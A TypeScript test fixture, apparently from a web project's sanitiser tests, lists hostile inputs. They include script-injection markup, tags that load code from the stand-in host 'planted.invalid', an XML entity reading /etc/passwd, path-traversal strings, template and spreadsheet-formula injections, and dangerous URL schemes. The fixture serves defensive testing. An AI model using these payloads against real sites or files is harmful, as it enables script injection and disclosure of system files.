/** What a payload sets if a script of it runs; read by the tests that open a page. */
export const plantedFlag = 'rostrumPlanted'

const run = `window.${plantedFlag}=(window.${plantedFlag}||0)+1;alert(1)`
/** No such host exists: a request for it is one that should never have been made. */
const elsewhere = 'planted.invalid'

/** Markup and its pieces: ends of what they could stand in, then what would run or load. */
export const markupPayloads = [
  `<script>${run}</script>`,
  `</script><script>${run}</script>`,
  `"><script>${run}</script>`,
  `'><img src=x onerror="${run}">`,
  `" onmouseover="${run}" autofocus onfocus="${run}" x="`,
  `' style='animation:x 1s' onanimationstart='${run}`,
  `<svg onload="${run}"><animate attributeName=href values="javascript:${run}"/></svg>`,
  `<svg><script href="https://${elsewhere}/a.js"/></svg>`,
  `</style><style>@import url(https://${elsewhere}/a.css);body{display:none}</style>`,
  `</title><img src="https://${elsewhere}/a.png" onerror="${run}">`,
  `</textarea><iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe src="javascript:${run}"></iframe><object data="https://${elsewhere}/a"></object>`,
  `<details open ontoggle="${run}"><summary>x</summary></details>`,
  `<base href="https://${elsewhere}/"><meta http-equiv="refresh" content="0;url=https://${elsewhere}/">`,
  `<form action="javascript:${run}"><button autofocus>go</button></form>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${run}">`,
  `<template><script>${run}</script></template>`,
  `<!--><script>${run}</script>-->`,
  `<![CDATA[<script>${run}</script>]]>`,
  ']]>',
  '-->',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
  '&lt;script&gt;alert(1)&lt;/script&gt; &amp;amp; &#0; &#x110000; &bogus;',
  '<?xml version="1.0"?><?php echo 1 ?>',
  '{{constructor.constructor("alert(1)")()}} ${alert(1)} <%= 1 %> #{1} {%raw%}',
  "_x000D_ _x0000_ =cmd|'/C calc'!A0 +1 -1 @SUM(1)",
  '<a:t>x</a:t></a:r></a:p>',
] as const

/** What would end a declaration, a rule or an address within a style sheet. */
export const stylePayloads = [
  `red;background:url(https://${elsewhere}/a)`,
  `#fff}body{display:none}</style><script>${run}</script>`,
  `oklch(0.5 0.1 20);--x:url(https://${elsewhere}/b)`,
  `expression(${run})`,
  `url("https://${elsewhere}/c")`,
  `var(--ink)`,
  '\\0000003c script>',
  "'; @import 'https://planted.invalid/d.css'; x: '",
  '#ggg',
  '#12345',
  'oklch(9 9 9)',
  '__proto__',
] as const

export const badAddresses = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  ` \u0001javascript:${run}`,
  `java\nscript:${run}`,
  `java\tscript:${run}`,
  `javascript&colon;${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`,
  `vbscript:${run}`,
  'file:///etc/passwd',
  `//${elsewhere}/a`,
  '/etc/passwd',
  '../../../../etc/passwd',
  'blob:https://planted.invalid/1',
  'filesystem:http://x/y',
  'ms-word:ofe|u|https://planted.invalid/a.docx',
  'intent://x#Intent;scheme=http;end',
  'view-source:javascript:1',
  '#" onclick="alert(1)',
  'http',
  ':',
  '',
] as const

/** Those that may be followed, however odd. */
export const oddAddresses = [
  'https://example.org/?a="><script>alert(1)</script>&b=\'x',
  'https://example.org/a b\u0000c"\'<>`{}|^\\',
  'http://[::1]:99999/%zz%00%',
  'https://user:pass@example.org:8080/../..//x?#',
  `https://example.org/${'long'.repeat(120)}`,
  'https://例え.テスト/パス?問=い',
  'https://\u202Egro.elpmaxe/\u202D',
  'mailto:a@example.org?subject="><script>alert(1)</script>&body=%0d%0aBcc:x',
  'HTTPS://EXAMPLE.ORG/%E2%80%AE',
  'https://\ud800.example.org/',
  'https:/one-slash',
  'https:example.org',
] as const
